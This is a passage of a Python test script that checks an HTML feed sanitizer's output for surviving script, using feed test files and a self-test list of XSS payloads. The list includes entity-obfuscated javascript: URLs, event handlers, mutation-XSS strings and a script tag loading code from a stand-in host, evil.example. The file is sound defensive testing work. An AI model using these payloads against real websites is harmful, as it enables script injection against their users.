#!/usr/bin/env python3
"""check/sanitize.py — proves that no script survives `feedscrub clean --format html`.

Corpus mode (default): every feed file in CORPUS (the Universal Feed Parser's
wellformed/sanitize tests, read where they lie and never copied) is parsed, each
HTML-bearing text field (description, content, content:encoded, summary, title,
subtitle, info, tagline, copyright, rights, fullitem, body, ...) is extracted as
an XML parser would give it (entities decoded, CDATA unwrapped, base64 content
decoded, inline XHTML taken as its inner markup), and each fragment goes through
`feedscrub clean --format html -` (in parallel, one process per fragment). An
in-scope absolute xml:base is passed as --base-url. Files that are not
well-formed fall back to a regex extraction (a field holding both live and
entity-escaped markup is then checked both as is and decoded); files that cannot
be read or hold no field are reported and skipped.

--self-test: a list of classic XSS payloads goes through the same check (with
and without --base-url). Each raw payload is also given to the checker alone,
which must flag it: a checker that flags nothing proves nothing.

The check (on the cleaner's output, parsed case-insensitively with html.parser):
  * no `<script` anywhere in the output text;
  * no element named script, style, iframe (unless a plain https embed from a
    video host: reported separately), object, embed, applet, form, base, meta,
    link, svg, math, frame, frameset, nor raw-text elements that re-parse
    differently (noscript, noembed, noframes, xmp, plaintext, template, textarea,
    title, isindex) — also when namespaced (svg:script);
  * no on* attribute, no srcdoc;
  * no style attribute with expression(), behavior, -moz-binding, @import or a
    url() / value with a script-capable scheme (CSS escapes and comments undone);
  * no URL attribute (href, src, action, formaction, background, poster, data,
    xlink:href, srcset candidates, cite, longdesc, lowsrc, dynsrc, codebase, ...)
    whose value, entity-decoded and stripped of whitespace and control characters,
    starts with javascript:, vbscript:, data: (data:image/ in img src/srcset is
    allowed and counted), livescript: or mocha:;
  * no meta http-equiv=refresh;
  * no comment, CDATA section, declaration or processing instruction that hides
    markup (html.parser and browsers disagree about where those end).

Output: one summary line
  check-sanitize: F files, N fragments, U unsafe outputs, E empty (...)
then every unsafe output (file, field, truncated input, offending output and
reasons), cleaner errors, then two sanity lists that never fail the run: the
empty outputs (no text left though the input had some) and, for single-field
files whose `Expect:` is a plain string, the words of that expected value the
output lacks (feedparser's expectations differ from HTML5 parsing in places,
so read these, do not count them).

Exit status: 1 when an output is unsafe, when the cleaner failed on a fragment
(exit status, timeout: that fragment is unproven) or, in --self-test, when the
checker missed a raw payload; 0 otherwise; 2 for usage errors.
"""

import argparse
import ast
import base64
import binascii
import codecs
import concurrent.futures
import html
import html.entities
import html.parser
import os
import re
import subprocess
import sys
import time
import urllib.parse
import xml.etree.ElementTree as ET

# ------------------------------------------------------------------ what is HTML-bearing

# Local names (any namespace) of feed elements whose text is HTML (or may be).
HTML_FIELDS = {
    "description", "content", "encoded", "summary", "title", "subtitle", "info",
    "tagline", "copyright", "rights", "fullitem", "body", "abstract", "comment",
}

XML_NS = "http://www.w3.org/XML/1998/namespace"
XLINK_NS = "http://www.w3.org/1999/xlink"
HTML_VOID = {
    "area", "base", "basefont", "bgsound", "br", "col", "embed", "frame", "hr", "img",
    "input", "isindex", "keygen", "link", "meta", "param", "source", "track", "wbr",
}

# ------------------------------------------------------------------ what must not survive

FORBIDDEN_ELEMENTS = {
    "script", "style", "iframe", "object", "embed", "applet", "form", "base", "meta",
    "link", "svg", "math", "frame", "frameset",
}
# Raw-text / RCDATA / parser-switching elements: markup inside them re-parses differently
# (mutation XSS), so the sanitizer must never emit them.
REPARSE_ELEMENTS = {
    "noscript", "noembed", "noframes", "xmp", "plaintext", "template", "textarea",
    "title", "isindex",
}
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "background", "poster", "data", "xlink:href",
    "srcset", "cite", "longdesc", "lowsrc", "dynsrc", "codebase", "classid", "usemap",
    "profile", "manifest", "icon", "ping", "archive", "imagesrcset", "to", "from", "values",
}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
EXPECTED_SCHEMES = {"http", "https", "mailto"}  # what the cleaner allows; others are notes
# Video players whose iframes may stay (this host or a subdomain; http or https, no srcdoc,
# no handlers). Kept independent of the cleaner's own list on purpose.
VIDEO_HOSTS = (
    "youtube.com", "youtube-nocookie.com", "player.vimeo.com", "dailymotion.com",
    "player.twitch.tv", "embed.ted.com", "w.soundcloud.com",
)

CTRL_WS = re.compile(r"[\x00-\x20\x7f-\x9f\s\u200b-\u200f\u2028\u2029\ufeff]+")
SCRIPT_TAG = re.compile(r"<\s*script", re.I)
HIDDEN_MARKUP = re.compile(r"<\s*[a-zA-Z/!?]")


def squeeze(value):
    """A URL value as a browser reads its scheme: whitespace and control chars dropped."""
    return CTRL_WS.sub("", value or "").lower()


def css_normalize(value):
    """Undo CSS comments and escapes, drop whitespace, lowercase."""
    v = re.sub(r"/\*.*?(\*/|$)", "", value or "", flags=re.S)

    def unescape(m):
        if m.group(1):
            cp = int(m.group(1), 16)
            return chr(cp) if 0 < cp <= 0x10FFFF else "\ufffd"
        return m.group(2)

    v = re.sub(r"\\([0-9a-fA-F]{1,6})\s?|\\(.)", unescape, v, flags=re.S)
    return CTRL_WS.sub("", v).lower()


def url_problem(tag, attr, value):
    """Why this URL attribute value is unsafe, or None. Also returns a note (or None)."""
    v = squeeze(value)
    for scheme in BAD_SCHEMES:
        if v.startswith(scheme):
            if scheme == "data:" and tag in ("img", "source") and attr in ("src", "srcset") \
                    and v.startswith("data:image/"):
                return None, f"data:image URL in <{tag} {attr}>"
            return f"{attr}= has a {scheme} URL", None
    m = re.match(r"([a-z][a-z0-9+.-]*):", v)
    if m and m.group(1) not in EXPECTED_SCHEMES:
        return None, f"{attr}= has an unexpected scheme {m.group(1)}:"
    return None, None


def srcset_urls(value):
    for cand in (value or "").split(","):
        cand = cand.strip()
        if cand:
            yield cand.split()[0]


def style_problem(value):
    v = css_normalize(value)
    for needle in ("expression(", "behavior:", "-moz-binding", "@import", "javascript:",
                   "vbscript:", "livescript:", "mocha:"):
        if needle in v:
            return f"style= contains {needle}"
    for m in re.finditer(r"url\(([^)]*)\)?", v):
        u = m.group(1).strip("'\"")
        if u.startswith(BAD_SCHEMES) and not u.startswith("data:image/"):
            return f"style= has url({u[:40]})"
    return None


class OutputScanner(html.parser.HTMLParser):
    """Collects the problems of one (sanitized) HTML string."""

    def __init__(self, depth=0):
        super().__init__(convert_charrefs=True)
        self.depth = depth
        self.issues = []     # (reason, snippet)
        self.notes = []      # harmless oddities worth a count
        self.iframes = []    # allowed video iframes (snippet)
        self.text = []
        self._raw_depth = 0  # inside script/style (html.parser's CDATA elements)

    def _issue(self, reason, snippet):
        self.issues.append((reason, snippet[:300]))

    def handle_starttag(self, tag, attrs):
        self._element(tag, attrs, self.get_starttag_text() or f"<{tag}>")
        if tag in ("script", "style"):
            self._raw_depth += 1

    def handle_startendtag(self, tag, attrs):
        self._element(tag, attrs, self.get_starttag_text() or f"<{tag}/>")

    def handle_endtag(self, tag):
        if tag in ("script", "style") and self._raw_depth:
            self._raw_depth -= 1

    def handle_data(self, data):
        if not self._raw_depth:
            self.text.append(data)

    def _hidden(self, kind, data, snippet):
        """Comments, CDATA, declarations, PIs: browsers may end them elsewhere than
        html.parser does, so markup inside them counts as live."""
        if HIDDEN_MARKUP.search(data):
            self._issue(f"markup inside a {kind} (parsers disagree where it ends)", snippet)
            if self.depth < 3:
                inner = scan_html(data, self.depth + 1)
                for reason, snip in inner.issues:
                    self._issue(f"inside a {kind}: {reason}", snip)
        else:
            self.notes.append(f"{kind} in output")

    def handle_comment(self, data):
        self._hidden("comment", data, f"<!--{data}-->")

    def handle_decl(self, decl):
        self._hidden("declaration", decl, f"<!{decl}>")

    def unknown_decl(self, data):
        self._hidden("CDATA/marked section", data, f"<![{data}]]>")

    def handle_pi(self, data):
        self._hidden("processing instruction", data, f"<?{data}>")

    def _element(self, tag, attrs, snippet):
        name = tag.lower()
        local = name.rsplit(":", 1)[-1]
        amap = {}
        for k, v in attrs:
            amap.setdefault(k.lower(), v if v is not None else "")
        if name == "iframe" or local == "iframe":
            if video_iframe(amap):
                self.iframes.append(snippet[:300])
            else:
                self._issue("<iframe> element (not an allowed video player)", snippet)
        elif name in FORBIDDEN_ELEMENTS or local in FORBIDDEN_ELEMENTS:
            self._issue(f"<{name}> element", snippet)
        elif name in REPARSE_ELEMENTS or local in REPARSE_ELEMENTS:
            self._issue(f"<{name}> element (raw-text, re-parses differently)", snippet)
        if local == "meta" and "refresh" in amap.get("http-equiv", "").lower():
            self._issue("meta http-equiv=refresh", snippet)
        for k, v in amap.items():
            klocal = k.rsplit(":", 1)[-1]
            if klocal.startswith("on"):
                self._issue(f"event handler attribute {k}=", snippet)
            elif klocal == "srcdoc":
                self._issue("srcdoc= attribute", snippet)
            elif klocal == "style":
                why = style_problem(v)
                if why:
                    self._issue(why, snippet)
            elif k in URL_ATTRIBUTES or klocal in ("href", "src", "action", "formaction"):
                urls = srcset_urls(v) if klocal in ("srcset", "imagesrcset") else [v]
                for u in urls:
                    why, note = url_problem(local, klocal, u)
                    if why:
                        self._issue(f"<{name}> {why}", snippet)
                    if note:
                        self.notes.append(note)


def video_iframe(amap):
    src = squeeze(amap.get("src", ""))
    if not src.startswith(("https://", "http://")) or "srcdoc" in amap \
            or any(k.rsplit(":", 1)[-1].startswith("on") for k in amap):
        return False
    try:
        host = (urllib.parse.urlsplit(src).hostname or "").lower()
    except ValueError:
        return False
    return any(host == h or host.endswith("." + h) for h in VIDEO_HOSTS)


def scan_html(text, depth=0):
    s = OutputScanner(depth)
    try:
        s.feed(text)
        s.close()
    except Exception as e:  # html.parser should not raise; if it does, be strict
        s._issue(f"output could not be parsed by html.parser ({e!r})", text)
    return s


def check_output(out):
    """(issues, notes, iframes, visible_text) for one cleaner output."""
    s = scan_html(out)
    issues = list(s.issues)
    if SCRIPT_TAG.search(out) and not any("<script" in r for r, _ in issues):
        m = SCRIPT_TAG.search(out)
        issues.append(("`<script` in the output", out[max(0, m.start() - 60):m.end() + 120]))
    return issues, s.notes, s.iframes, "".join(s.text)


class TextOf(html.parser.HTMLParser):
    """Visible text of an input fragment (script/style content left out)."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.parts = []
        self.skip = 0

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "style"):
            self.skip += 1

    def handle_endtag(self, tag):
        if tag in ("script", "style") and self.skip:
            self.skip -= 1

    def handle_data(self, data):
        if not self.skip:
            self.parts.append(data)


def visible_text(fragment):
    p = TextOf()
    try:
        p.feed(fragment)
        p.close()
    except Exception:
        return re.sub(r"<[^>]*>", "", fragment)
    return "".join(p.parts)


# ------------------------------------------------------------------ extraction (XML)

def local_name(tag):
    return tag.rsplit("}", 1)[-1] if tag.startswith("{") else tag


def attr_name(key):
    if key.startswith("{"):
        ns, name = key[1:].split("}", 1)
        if ns == XLINK_NS:
            return "xlink:" + name
        if ns == XML_NS:
            return "xml:" + name
        return name
    return key


def serialize(el):
    """An XML element as HTML markup: namespaces dropped, explicit end tags."""
    tag = el.tag
    if tag is ET.Comment:
        return f"<!--{el.text or ''}-->"
    if tag is ET.ProcessingInstruction:
        return f"<?{el.text or ''}?>"
    if not isinstance(tag, str):
        return ""
    name = local_name(tag)
    attrs = "".join(f' {attr_name(k)}="{html.escape(v, quote=True)}"' for k, v in el.attrib.items())
    inner = inner_xml(el)
    if name.lower() in HTML_VOID and not inner:
        return f"<{name}{attrs}>"
    return f"<{name}{attrs}>{inner}</{name}>"


def inner_xml(el):
    parts = [html.escape(el.text or "", quote=False)]
    for child in el:
        parts.append(serialize(child))
        parts.append(html.escape(child.tail or "", quote=False))
    return "".join(parts)


def decode_base64(text):
    try:
        raw = base64.b64decode(re.sub(r"\s+", "", text or ""), validate=False)
    except (binascii.Error, ValueError):
        return text or ""
    return raw.decode("utf-8", "replace")


def field_value(el):
    mode = (el.get("mode") or "").lower()
    if mode == "base64":
        return decode_base64(el.text)
    if any(isinstance(c.tag, str) for c in el):  # inline XHTML (type="xhtml", mode="xml", xhtml:body)
        return inner_xml(el)
    if len(el):  # only comments / PIs inside: keep them as markup
        return inner_xml(el)
    return el.text or ""


def join_base(base, value):
    if not value:
        return base
    try:
        return urllib.parse.urljoin(base, value.strip()) if base else value.strip()
    except ValueError:
        return base


def usable_base(base):
    return base if base and re.match(r"https?://[^/\s]+", base, re.I) else None


def extract_xml(data):
    parser = ET.XMLParser(target=ET.TreeBuilder(insert_comments=True, insert_pis=True))
    parser.feed(data)
    root = parser.close()
    out = []

    def walk(el, base, path):
        seen = {}
        for child in el:
            if not isinstance(child.tag, str):
                continue
            name = local_name(child.tag)
            cbase = join_base(base, child.get(f"{{{XML_NS}}}base"))
            seen[name] = seen.get(name, 0) + 1
            cpath = f"{path}/{name}" + (f"[{seen[name]}]" if seen[name] > 1 else "")
            if name in HTML_FIELDS:
                out.append((cpath, field_value(child), usable_base(cbase)))
            else:
                walk(child, cbase, cpath)

    rbase = root.get(f"{{{XML_NS}}}base")
    rname = local_name(root.tag)
    if rname in HTML_FIELDS:
        out.append((rname, field_value(root), usable_base(rbase)))
    else:
        walk(root, rbase, rname)
    return out


# ------------------------------------------------------------------ extraction (regex fallback)

XML_PREDEF = {"lt": "<", "gt": ">", "amp": "&", "quot": '"', "apos": "'"}


def xml_unescape(text):
    def rep(m):
        ent = m.group(1)
        try:
            if ent.startswith("#x") or ent.startswith("#X"):
                return chr(int(ent[2:], 16))
            if ent.startswith("#"):
                return chr(int(ent[1:]))
        except (ValueError, OverflowError):
            return m.group(0)
        if ent in XML_PREDEF:
            return XML_PREDEF[ent]
        return html.entities.html5.get(ent + ";", m.group(0))  # lenient, like a loose parser

    return re.sub(r"&(#[xX][0-9a-fA-F]+|#[0-9]+|[A-Za-z][A-Za-z0-9]*);", rep, text)


CDATA_OR_COMMENT = re.compile(r"(<!\[CDATA\[.*?(?:\]\]>|$))|(<!--.*?(?:-->|$))", re.S)
FIELD_RX = re.compile(
    r"<((?:[\w.-]+:)?(?:" + "|".join(sorted(HTML_FIELDS)) + r"))(\s[^>]*?)?(/?)>", re.S)


def xml_empty_tags(markup):
    """XML empty-element tags of non-void elements as HTML start + end tag."""
    def rep(m):
        name = m.group(1)
        if name.rsplit(":", 1)[-1].lower() in HTML_VOID:
            return m.group(0)
        return f"<{name}{m.group(2).rstrip()}></{name}>"

    return re.sub(r"""<([A-Za-z][\w:.-]*)((?:[^<>"']|"[^"]*"|'[^']*')*?)/>""", rep, markup)


def regex_value(inner, attrs):
    """The text of an element from its raw inner XML, as an XML parser would give it."""
    mode = re.search(r"""\bmode\s*=\s*["']?base64""", attrs or "", re.I)
    # Split into CDATA sections (literal), comments (dropped) and the rest.
    pieces, markup, pos = [], False, 0
    for m in CDATA_OR_COMMENT.finditer(inner):
        pieces.append(("raw", inner[pos:m.start()]))
        if m.group(1):
            body = m.group(1)[9:]
            pieces.append(("cdata", body[:-3] if body.endswith("]]>") else body))
        pos = m.end()
    pieces.append(("raw", inner[pos:]))
    markup = any(k == "raw" and re.search(r"<[A-Za-z]", s) for k, s in pieces)
    if markup:  # inline XHTML: keep the markup (XML <x/> as <x></x>), CDATA text escaped into it
        text = "".join(xml_empty_tags(s) if k == "raw" else html.escape(s, quote=False) for k, s in pieces)
    else:
        text = "".join(xml_unescape(s) if k == "raw" else s for k, s in pieces)
    return decode_base64(text) if mode else text


def extract_regex(text):
    out, pos, seen = [], 0, {}
    # Comments (the Description/Expect header, commented-out markup) never hold fields.
    cleaned = CDATA_OR_COMMENT.sub(lambda m: m.group(1) or " " * len(m.group(0)), text)
    root = re.search(r"<[A-Za-z][^>]*>", cleaned)
    root_base = re.search(r"""xml:base\s*=\s*["']([^"']*)""", root.group(0)) if root else None
    doc_base = root_base.group(1) if root_base else None
    while True:
        m = FIELD_RX.search(cleaned, pos)
        if not m:
            break
        qname, attrs, selfclose = m.group(1), m.group(2) or "", m.group(3)
        name = qname.rsplit(":", 1)[-1]
        seen[name] = seen.get(name, 0) + 1
        path = name + (f"[{seen[name]}]" if seen[name] > 1 else "")
        if selfclose:
            pos = m.end()
            continue
        end = re.compile(r"</" + re.escape(qname) + r"\s*>").search(cleaned, m.end())
        inner = cleaned[m.end():end.start()] if end else cleaned[m.end():]
        base = re.search(r"""xml:base\s*=\s*["']([^"']*)""", attrs)
        base = usable_base(join_base(doc_base, base.group(1)) if base else doc_base)
        value = regex_value(inner, attrs)
        out.append((f"~{path}", value, base))
        if re.search(r"<[A-Za-z]", value) and re.search(r"&lt;[A-Za-z/!]", value, re.I):
            # Both live and escaped markup: a lenient reader might decode it; check that too.
            out.append((f"~{path}(decoded)", xml_unescape(value), base))
        pos = end.end() if end else len(cleaned)
    return out


def decode_bytes(data):
    for bom, enc in ((codecs.BOM_UTF8, "utf-8-sig"), (codecs.BOM_UTF16_LE, "utf-16"),
                     (codecs.BOM_UTF16_BE, "utf-16")):
        if data.startswith(bom):
            return data.decode(enc, "replace")
    m = re.match(rb"""\s*<\?xml[^>]*encoding\s*=\s*["']([A-Za-z0-9._-]+)""", data)
    if m:
        try:
            return data.decode(m.group(1).decode("ascii"), "replace")
        except LookupError:
            pass
    return data.decode("utf-8", "replace")


def header_of(text):
    desc = re.search(r"Description:\s*(.*)", text)
    exp = re.search(r"Expect:\s*(.*)", text)
    return (desc.group(1).strip() if desc else ""), (exp.group(1).strip() if exp else "")


def expected_value(expect):
    """The string an `Expect: ... X == '...'` line wants, when it is a plain literal."""
    if "==" not in expect:
        return None
    rhs = expect.rsplit("==", 1)[1].strip()
    try:
        node = ast.parse(rhs, mode="eval").body
    except SyntaxError:
        return None

    def ev(n):
        if isinstance(n, ast.Constant) and isinstance(n.value, str):
            return n.value
        if isinstance(n, ast.BinOp) and isinstance(n.op, ast.Add):
            a, b = ev(n.left), ev(n.right)
            return a + b if a is not None and b is not None else None
        return None

    return ev(node)


def extract_file(path, force_regex=False):
    """(fragments, how, description, expect, error)."""
    try:
        with open(path, "rb") as f:
            data = f.read()
    except OSError as e:
        return [], "unreadable", "", "", f"cannot read: {e}"
    text = decode_bytes(data)
    desc, expect = header_of(text)
    if not force_regex:
        try:
            return extract_xml(data), "xml", desc, expect, None
        except Exception as e:  # not well-formed (or odd): fall back
            xml_error = f"{type(e).__name__}: {e}"
    else:
        xml_error = "forced"
    try:
        return extract_regex(text), f"regex ({xml_error})", desc, expect, None
    except Exception as e:
        return [], "failed", desc, expect, f"extraction failed: {type(e).__name__}: {e}"


# ------------------------------------------------------------------ running the cleaner

def run_cleaner(binary, fragment, base, timeout):
    cmd = [binary, "--quiet", "clean", "--format", "html"]
    if base:
        cmd += ["--base-url", base]
    cmd.append("-")
    try:
        p = subprocess.run(cmd, input=fragment.encode("utf-8", "surrogatepass"),
                           capture_output=True, timeout=timeout, check=False)
    except subprocess.TimeoutExpired:
        return None, f"timed out after {timeout}s"
    except OSError as e:
        return None, f"cannot run {binary}: {e}"
    if p.returncode != 0:
        err = p.stderr.decode("utf-8", "replace").strip()
        return None, f"exit status {p.returncode}: {err[-500:]}"
    return p.stdout.decode("utf-8", "replace"), None


def clean_all(binary, jobs, items, timeout):
    """items: list of (fragment, base). Returns list of (output|None, error|None)."""
    results = [None] * len(items)
    with concurrent.futures.ThreadPoolExecutor(max_workers=jobs) as pool:
        futs = {pool.submit(run_cleaner, binary, frag, base, timeout): i
                for i, (frag, base) in enumerate(items)}
        for fut in concurrent.futures.as_completed(futs):
            i = futs[fut]
            try:
                results[i] = fut.result()
            except Exception as e:  # pragma: no cover - run_cleaner catches its own
                results[i] = (None, f"{type(e).__name__}: {e}")
    return results


# ------------------------------------------------------------------ reporting

def short(s, n):
    s = s if len(s) <= n else s[:n] + f"... [{len(s)} chars]"
    # Control characters (other than newline and tab) shown as \xNN, the rest as is.
    return re.sub(r"[\x00-\x08\x0b-\x1f\x7f]", lambda m: f"\\x{ord(m.group(0)):02x}", s)


def indent(s, prefix="      "):
    return "\n".join(prefix + line for line in s.splitlines()) if s else prefix + "(empty)"


def report_unsafe(rows, out):
    for r in rows:
        print(f"\nUNSAFE {r['name']} :: {r['field']}" + (f"  (--base-url {r['base']})" if r["base"] else ""),
              file=out)
        print("    input:", file=out)
        print(indent(short(r["input"], 400)), file=out)
        print("    output:", file=out)
        print(indent(short(r["output"], 1500)), file=out)
        for reason, snip in r["issues"]:
            print(f"    - {reason}: {short(snip, 200)}", file=out)


def summarize_notes(rows):
    counts = {}
    for r in rows:
        for n in r["notes"]:
            counts[n] = counts.get(n, 0) + 1
    return counts


def missing_words(expected_text, got_text):
    """Words of expected_text (in order, counted) that got_text lacks."""
    have = {}
    for w in got_text.split():
        have[w] = have.get(w, 0) + 1
    missing = []
    for w in expected_text.split():
        if have.get(w):
            have[w] -= 1
        else:
            missing.append(w)
    return missing


def default_jobs():
    try:
        return max(1, len(os.sched_getaffinity(0)))
    except AttributeError:
        return max(1, os.cpu_count() or 1)


# ------------------------------------------------------------------ corpus mode

def corpus_mode(args):
    t0 = time.monotonic()
    if not os.path.isdir(args.corpus):
        print(f"check-sanitize: corpus directory not found: {args.corpus}", file=sys.stderr)
        return 2
    names = sorted(n for n in os.listdir(args.corpus)
                   if os.path.isfile(os.path.join(args.corpus, n)) and not n.startswith("."))
    frags, file_errors, fallbacks, skipped_blank = [], [], [], 0
    for name in names:
        frs, how, desc, expect, err = extract_file(os.path.join(args.corpus, name), args.regex)
        if err:
            file_errors.append((name, err))
            continue
        if how != "xml":
            fallbacks.append((name, how))
        if not frs:
            file_errors.append((name, "no HTML-bearing field found"))
        want = expected_value(expect)
        for field, value, base in frs:
            if not value.strip():
                skipped_blank += 1
                continue
            frags.append({"name": name, "field": field, "input": value, "base": base,
                          "desc": desc, "expect": want, "nfrags": len(frs)})
    if args.list:
        for fr in frags:
            print(f"== {fr['name']} :: {fr['field']}" + (f" (base {fr['base']})" if fr["base"] else ""))
            print(fr["input"])
        return 0
    t1 = time.monotonic()
    results = clean_all(args.bin, args.jobs, [(f["input"], f["base"]) for f in frags], args.timeout)
    t2 = time.monotonic()

    unsafe, empty, shrunk, errors, iframes = [], [], [], [], []
    for fr, (out, err) in zip(frags, results):
        if err is not None:
            errors.append((fr, err))
            continue
        out = out.rstrip("\n")
        issues, notes, ifr, text = check_output(out)
        fr.update(output=out, issues=issues, notes=notes)
        if issues:
            unsafe.append(fr)
        iframes += [(fr, s) for s in ifr]
        in_text = visible_text(fr["input"]).strip()
        if in_text and not text.strip():
            empty.append((fr, in_text))
        elif fr["expect"] is not None and fr["nfrags"] == 1:
            missing = missing_words(visible_text(fr["expect"]), text)
            if missing:
                shrunk.append((fr, missing))
    t3 = time.monotonic()

    print(f"check-sanitize: {len(names)} files, {len(frags)} fragments, {len(unsafe)} unsafe outputs, "
          f"{len(empty)} empty ({len(errors)} cleaner errors, {len(file_errors)} files without fragments, "
          f"{len(shrunk)} with words lost against Expect, {len(fallbacks)} regex fallbacks, "
          f"{len(iframes)} allowed video iframes, "
          f"{skipped_blank} blank fields skipped; {t3 - t0:.1f}s: extract {t1 - t0:.1f}s, "
          f"clean {t2 - t1:.1f}s with {args.jobs} jobs, check {t3 - t2:.1f}s)")
    notes = summarize_notes([f for f in frags if "notes" in f])
    if notes:
        print("notes (not failures): " + ", ".join(f"{n} x{c}" for n, c in sorted(notes.items())))
    report_unsafe(unsafe, sys.stdout)
    for fr, err in errors:
        print(f"\nCLEANER ERROR {fr['name']} :: {fr['field']}: {err}\n    input:\n{indent(short(fr['input'], 400))}")
    for name, err in file_errors:
        print(f"\nFILE {name}: {err} (skipped)")
    for name, how in fallbacks:
        print(f"FALLBACK {name}: {how}")
    for fr, snip in iframes:
        print(f"ALLOWED IFRAME {fr['name']} :: {fr['field']}: {snip}")
    if empty:
        print(f"\nempty outputs (input had text, output has none; {len(empty)}; "
              "'EXPECTED TEXT' = the test's Expect value has text):")
        for fr, in_text in empty:
            want = fr["expect"]
            want_text = visible_text(want).strip() if want else ""
            mark = "EXPECTED TEXT" if want_text and fr["nfrags"] == 1 else ""
            print(f"  EMPTY {fr['name']} :: {fr['field']} {mark}".rstrip())
            print(f"      input text: {short(' '.join(in_text.split()), 160)}")
            print(f"      output: {short(fr['output'], 160) or '(empty)'}")
            if want is not None:
                print(f"      expect: {short(want, 160)!r}")
    if shrunk:
        print(f"\ntext lost against the test's Expect value (words the expected text has and the "
              f"output lacks; {len(shrunk)}; not failures):")
        for fr, missing in shrunk:
            print(f"  LOST {fr['name']} :: {fr['field']}: {short(' '.join(missing), 120)}")
            print(f"      input: {short(' '.join(fr['input'].split()), 160)}")
            print(f"      output: {short(' '.join(fr['output'].split()), 160) or '(empty)'}")
    return 1 if unsafe or errors else 0


# ------------------------------------------------------------------ self-test

# (name, payload, the checker must flag the raw payload)
PAYLOADS = [
    ("script", "<script>alert(1)</script>safe", True),
    ("script src uppercase", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>safe", True),
    ("split script", "<scr<script>ipt>alert(1)</scr</script>ipt>", True),
    ("img onerror", "<img src=x onerror=alert(1)>", True),
    ("img onerror slash separators", "<img/src=\"x\"/onerror=alert(1)>", True),
    ("img backtick IE", "<img src=`x` onerror=alert(1)>", True),
    ("img src javascript tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">", True),
    ("img src decimal entities",
     "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
     True),
    ("img src padded entities no semicolons",
     "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>",
     True),
    ("img quote confusion", "<img \"\"\"><script>alert(1)</script>\">", True),
    ("img lowsrc dynsrc", "<img lowsrc=\"javascript:alert(1)\" dynsrc=\"javascript:alert(1)\" src=x>", True),
    ("img srcset candidate", "<img src=x srcset=\"x.png 1x, javascript:alert(1) 2x\">", True),
    ("img srcset data:text/html", "<img src=x srcset=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">", True),
    ("svg onload", "<svg onload=alert(1)>", True),
    ("svg script", "<svg><script>alert(1)</script></svg>", True),
    ("svg animate onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", True),
    ("svg xlink:href", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>", True),
    ("a href mixed case", "<a href=\"jAvAsCrIpT:alert(1)\">x</a>", True),
    ("a href tab entity", "<a href=\"java&#x09;script:alert(1)\">x</a>", True),
    ("a href newline", "<a href=\"java\nscript:alert(1)\">x</a>", True),
    ("a href hex entities",
     "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>", True),
    ("a href &colon;", "<a href=\"javascript&colon;alert(1)\">x</a>", True),
    ("a href leading control chars", "<a href=\" &#14; \x01javascript:alert(1)\">x</a>", True),
    ("a href vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>", True),
    ("a href livescript / mocha", "<a href=\"livescript:alert(1)\">x</a><a href=\"mocha:alert(1)\">y</a>", True),
    ("a href data base64",
     "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>", True),
    ("a href data html", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", True),
    ("a onmouseover", "<a href=\"http://x.example/\" onmouseover=\"alert(1)\">x</a>", True),
    ("blockquote cite", "<blockquote cite=\"javascript:alert(1)\">x</blockquote>", True),
    ("q / del / ins cite",
     "<q cite=\"javascript:alert(1)\">q</q><del cite=\"vbscript:x\">d</del><ins cite=\"data:text/html,x\">i</ins>", True),
    ("area href", "<map name=m><area shape=rect coords=0,0,9,9 href=\"javascript:alert(1)\"></map>", True),
    ("a ping", "<a href=\"https://ok.example/\" ping=\"javascript:alert(1)\">x</a>", True),
    ("iframe srcdoc", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>", True),
    ("iframe javascript", "<iframe src=\"javascript:alert(1)\"></iframe>", True),
    ("frameset frame", "<frameset><frame src=\"javascript:alert(1)\"></frameset>", True),
    ("math mglyph style mXSS", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", True),
    ("form math mXSS (DOMPurify 2.0.0)",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", True),
    ("object data", "<object data=\"javascript:alert(1)\"></object>", True),
    ("object param", "<object><param name=src value=javascript:alert(1)></object>", True),
    ("embed src", "<embed src=\"javascript:alert(1)\">", True),
    ("applet codebase", "<applet code=\"X\" codebase=\"javascript:alert(1)\"></applet>", True),
    ("base href", "<base href=\"javascript:alert(1)//\"><a href=\"/x\">x</a>", True),
    ("button formaction", "<form><button formaction=\"javascript:alert(1)\">x</button></form>", True),
    ("form action", "<form action=\"javascript:alert(1)\"><input type=submit></form>", True),
    ("input image src", "<input type=\"image\" src=\"javascript:alert(1)\">", True),
    ("isindex action", "<isindex action=\"javascript:alert(1)\" type=image>", True),
    ("details ontoggle", "<details open ontoggle=alert(1)>x</details>", True),
    ("body onload", "<body onload=alert(1)>x</body>", True),
    ("video poster / source onerror",
     "<video poster=javascript:alert(1)><source src=x onerror=alert(1)></video>", True),
    ("audio onerror", "<audio src=x onerror=alert(1)>", True),
    ("picture source srcset", "<picture><source srcset=\"javascript:alert(1)\"><img src=x></picture>", True),
    ("table background", "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>", True),
    ("style @import", "<style>@import 'javascript:alert(1)';</style>", True),
    ("style url()", "<div style=\"background:url(javascript:alert(1))\">x</div>", True),
    ("style expression escaped", "<div style=\"width: e\\78 pression(alert(1))\">x</div>", True),
    ("style behavior / binding", "<div style=\"behavior: url(x.htc); -moz-binding: url(x.xml#xss)\">x</div>", True),
    ("link stylesheet", "<link rel=stylesheet href=\"javascript:alert(1)\">", True),
